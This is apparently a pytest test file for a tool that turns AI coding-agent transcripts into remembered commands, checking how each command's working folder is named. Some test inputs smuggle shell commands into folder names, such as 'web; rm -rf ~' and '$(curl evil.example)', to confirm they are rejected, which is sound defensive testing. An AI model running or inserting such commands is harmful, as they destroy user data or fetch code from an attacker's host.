"""A command is named where it ran: a session started in a folder of the worktree, an agent
told to run a call in one (Codex `workdir`, Antigravity `Cwd`, Gemini CLI `directory`), or a
`cd` in the line (issue 39 item 7: `cd X &&` kept apart, not lost)."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest

from git_memory.extract.builtin import renderers
from git_memory.extract.builtin.renderers import BuiltinFact
from git_memory.extract.builtin.window import plan_window
from git_memory.extract.select import path_scrubber
from git_memory.sessions.query import TurnRecord
from git_memory.sessions.turns import ToolCall
from tests.conftest import run_cli
from tests.extract.records import turn_record
from tests.repos import make_repo
from tests.sessions.transcripts import claude_assistant, claude_path, claude_user, write_jsonl

ROOT = Path("/work/repo")
VITEST = " Test Files  18 passed (18)\n      Tests  96 passed (96)\n"


def _call(name: str, payload: dict[str, Any], output: str = VITEST) -> ToolCall:
    return ToolCall(call_id="c", name=name, input=payload, output=output, state="completed")


def _facts(*turns: tuple[str, ToolCall]) -> list[BuiltinFact]:
    """The facts of one session whose turns ran in the given folders of the worktree."""
    records: list[TurnRecord] = [
        turn_record(f"t{n}", call, session="s1", cwd=cwd) for n, (cwd, call) in enumerate(turns)
    ]
    found = plan_window(
        [("s1", records)], {r.turn_key: "s1" for r in records}, set(), path_scrubber(ROOT)
    ).placed
    return [fact for facts in found.values() for fact in facts]


def _contents(*turns: tuple[str, ToolCall]) -> list[str]:
    facts = _facts(*turns)
    assert all(renderers.verify_typed_fact(f.renderer, f.statement, f.parameters) for f in facts)
    return [fact.content for fact in facts]


def test_a_session_started_in_a_folder_names_it() -> None:
    assert _contents((f"{ROOT}/web", _call("Bash", {"command": "pnpm test"}))) == [
        "`cd web && pnpm test` runs the tests (worked in 1 session)."
    ]


@pytest.mark.parametrize(
    ("name", "payload"),
    [
        ("exec_command", {"cmd": "pnpm test", "workdir": f"{ROOT}/web"}),
        ("shell", {"command": ["bash", "-lc", "pnpm test"], "workdir": f"{ROOT}/web"}),
        ("run_shell_command", {"command": "pnpm test", "directory": "web"}),
        ("run_shell_command", {"command": "pnpm test", "dir_path": "web"}),
        ("run_command", {"command": "pnpm test", "cwd": f"{ROOT}/web"}),
        (
            "local_shell",
            {"type": "exec", "command": ["pnpm", "test"], "working_directory": f"{ROOT}/web"},
        ),
        ("Bash", {"command": "cd web && pnpm test"}),
        ("Bash", {"command": f"cd {ROOT}/web && pnpm test"}),
    ],
)
def test_a_call_told_to_run_in_a_folder_names_it(name: str, payload: dict[str, Any]) -> None:
    assert _contents((str(ROOT), _call(name, payload))) == [
        "`cd web && pnpm test` runs the tests (worked in 1 session)."
    ]


def test_the_session_folder_and_the_calls_own_add_up() -> None:
    told = _call("run_shell_command", {"command": "uv run pytest", "directory": "api"})
    pytest_ok = "== 3 passed in 0.2s =="
    told = _call(told.name, told.input, pytest_ok)
    back = _call("Bash", {"command": "cd .. && make lint"}, "make: Nothing to be done for 'lint'.")
    assert _contents((f"{ROOT}/services", told), (f"{ROOT}/services", back)) == [
        "`cd services/api && uv run pytest` runs the tests (worked in 1 session).",
        "`make lint` lints the code (worked in 1 session).",
    ]


def test_the_same_command_in_two_folders_is_two_memories() -> None:
    assert _contents(
        (str(ROOT), _call("Bash", {"command": "pnpm test"})),
        (str(ROOT), _call("Bash", {"command": "cd web && pnpm test"})),
    ) == [
        "`pnpm test` runs the tests (worked in 1 session).",
        "`cd web && pnpm test` runs the tests (worked in 1 session).",
    ]


@pytest.mark.parametrize(
    ("cwd", "call"),
    [
        (str(ROOT), _call("exec_command", {"cmd": "pnpm test", "workdir": "/tmp/scratch"})),
        (str(ROOT), _call("Bash", {"command": "cd ../other && pnpm test"})),
        (str(ROOT), _call("Bash", {"command": "cd .. && pnpm test"})),
        (
            str(ROOT),
            _call("exec_command", {"cmd": "pnpm test", "workdir": f"{ROOT}/.codex/skills/x"}),
        ),
        (f"{ROOT}/.claude/skills/deploy", _call("Bash", {"command": "pnpm test"})),
    ],
)
def test_a_command_run_outside_the_project_or_in_an_agents_folder_is_not_proposed(
    cwd: str, call: ToolCall
) -> None:
    assert _contents((cwd, call)) == []


def test_a_trap_in_a_folder_names_it_for_the_failure_and_the_fix() -> None:
    missing = "sh: 1: vitest: not found\n ELIFECYCLE  Test failed."
    failed = ToolCall("c", "Bash", {"command": "npm test"}, missing, "failed")
    contents = _contents(
        (f"{ROOT}/web", failed),
        (f"{ROOT}/web", _call("Bash", {"command": "pnpm test"})),
    )
    assert contents[0] == (
        'Trap: `cd web && npm test` fails with "sh: 1: vitest: not found"; run '
        "`cd web && pnpm test` instead."
    )


@pytest.mark.parametrize(
    "command",
    [
        "cd /etc && npm test",
        "cd ../x && npm test",
        "cd ~/x && npm test",
        "cd web && ls",
        "cd 'a; b' && npm test",
    ],
)
def test_the_renderer_refuses_a_folder_outside_the_project(command: str) -> None:
    text = renderers.render_command_exit(command, "test", 1)
    assert not renderers.verify_typed_fact(
        renderers.RENDERER_COMMAND_EXIT,
        text,
        (("command", command), ("kind", "test"), ("sessions", "1")),
    )


def test_extract_offers_the_command_where_a_real_session_in_a_folder_ran_it(
    tmp_path: Path, hermetic_env: dict[str, Path]
) -> None:
    repo = make_repo(tmp_path / "repo")
    repo.write("web/package.json", '{"scripts": {"test": "vitest run"}}\n')
    repo.commit_all("web app")
    cwd = str(repo.root / "web")
    call = {"type": "tool_use", "id": "toolu_1", "name": "Bash", "input": {"command": "npm test"}}
    result = {"type": "tool_result", "tool_use_id": "toolu_1", "content": VITEST}
    records = [
        claude_user("Run the web tests", cwd),
        claude_assistant([call], cwd, "msg_1"),
        claude_user([result], cwd),
        claude_assistant([{"type": "text", "text": "All 96 pass."}], cwd, "msg_2"),
    ]
    session = "00000001-2222-4333-8444-555555555555"
    for line, record in enumerate(records):
        record.update(sessionId=session, timestamp=f"2026-11-20T11:00:{line:02d}.000Z")
    write_jsonl(claude_path(hermetic_env["claude"], session), records, time.time() - 3600)
    extract = ["extract", "--runner", "builtin", "--since", "2026-11-01", "--until", "2026-12-01"]
    assert run_cli(extract, cwd=repo.root).exit_code == 0
    items = run_cli(["review", "--format", "json"], cwd=repo.root).json()["items"]
    assert [item["content"] for item in items] == [
        "`cd web && npm test` runs the tests (worked in 1 session)."
    ]


def test_a_script_of_the_root_and_one_of_a_folder_are_two_memories() -> None:
    done = "all checks passed"
    assert _contents(
        (str(ROOT), _call("Bash", {"command": "./scripts/check.sh"}, done)),
        (str(ROOT), _call("Bash", {"command": "cd web && ./scripts/check.sh --fast"}, done)),
    ) == [
        "`./scripts/check.sh` runs the project checks (worked in 1 session).",
        "`cd web && ./scripts/check.sh --fast` runs the project checks (worked in 1 session).",
    ]


def test_where_the_session_ran_is_not_known_a_calls_folder_is_not_either() -> None:
    """Without the session's folder (not scrubbed to the worktree), an absolute folder of a
    call cannot be placed: the command reads as run at the root, as before."""
    call = _call("exec_command", {"cmd": "pnpm test", "workdir": "/w/app"})
    records = [turn_record("t0", call, session="s1", cwd=None)]
    found = plan_window([("s1", records)], {"t0": "s1"}, set()).placed
    assert [f.content for facts in found.values() for f in facts] == [
        "`pnpm test` runs the tests (worked in 1 session)."
    ]


@pytest.mark.parametrize(
    "told", ["web; rm -rf ~", "web\x1b[8m", "web\nmake deploy", "$(curl evil.example)", "w`id`"]
)
def test_a_hostile_folder_is_never_named(told: str) -> None:
    """A transcript's folder a memory could not name as a plain path is not read at all."""
    call = _call("exec_command", {"cmd": "pnpm test", "workdir": f"{ROOT}/{told}"})
    assert _contents((str(ROOT), call)) == ["`pnpm test` runs the tests (worked in 1 session)."]
    relative = _call("run_shell_command", {"command": "pnpm test", "directory": told})
    assert _contents((str(ROOT), relative)) == ["`pnpm test` runs the tests (worked in 1 session)."]


def test_a_cd_into_a_folder_named_with_shell_syntax_is_not_proposed() -> None:
    call = _call("Bash", {"command": "cd 'web; rm -rf ~' && pnpm test"})
    assert _contents((str(ROOT), call)) == []


MISSING_PACKAGE = (
    "src/cart/api.ts(3,28): error TS2307: Cannot find module '@storefront/api-client'\n"
    " ELIFECYCLE  Command failed with exit code 2."
)


def test_a_step_in_another_folder_is_named_with_it_and_is_no_variant() -> None:
    """Building a package of the workspace first is a prerequisite run in its own folder,
    not another way to run the failing command."""
    failed = ToolCall("c", "Bash", {"command": "pnpm build"}, MISSING_PACKAGE, "failed")
    built = _call("Bash", {"command": "cd ../packages/api-client && pnpm build"}, "✓ built")
    again = _call("Bash", {"command": "pnpm build"}, "✓ built in 2.91s")
    web = f"{ROOT}/web"
    assert _contents((web, failed), (web, built), (web, again))[0] == (
        'Trap: `cd web && pnpm build` fails with "src/cart/api.ts(3,28): error TS2307: Cannot '
        "find module '@storefront/api-client'\" unless `cd packages/api-client && pnpm build` "
        "runs first."
    )
    installed = _call("Bash", {"command": "pnpm install"}, "Packages: +412\nDone in 8.2s")
    assert _contents((web, failed), (web, installed), (web, built), (web, again))[0].endswith(
        "unless `(cd web && pnpm install) && (cd packages/api-client && pnpm build)` runs first."
    )


def test_steps_in_the_failing_commands_folder_are_named_with_it() -> None:
    missing = "sh: 1: vitest: not found\n ELIFECYCLE  Test failed."
    failed = ToolCall("c", "Bash", {"command": "pnpm test"}, missing, "failed")
    installed = _call("Bash", {"command": "pnpm install"}, "Packages: +412\nDone in 8.2s")
    web = f"{ROOT}/web"
    assert _contents(
        (web, failed), (web, installed), (web, _call("Bash", {"command": "pnpm test"}))
    )[0] == (
        'Trap: `cd web && pnpm test` fails with "sh: 1: vitest: not found" unless `cd web && '
        "pnpm install` runs first."
    )
